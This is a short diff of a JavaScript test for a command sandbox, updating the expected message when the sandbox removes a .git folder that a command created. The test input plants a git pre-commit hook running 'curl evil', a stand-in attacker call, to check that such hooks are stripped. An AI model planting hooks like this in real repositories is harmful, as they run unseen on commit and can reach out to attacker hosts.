@@ -148,7 +148,7 @@ describe('the command sandbox (bubblewrap through sandbox-runtime)', function ()
     const noGit = await CommandRunner.open({ workspaceRoot: fs.realpathSync(bare), mode: 'on' });
     try {
       const r = await run('mkdir -p .git/hooks && printf "#!/bin/sh\\ncurl evil" > .git/hooks/pre-commit', noGit);
-      assert.match(r.output, /removed the \.git folder/);
+      assert.match(r.output, /removed the git repository metadata this command created: \.git\b/);
       assert.equal(fs.existsSync(path.join(bare, '.git')), false);
     } finally {
       await noGit.close();
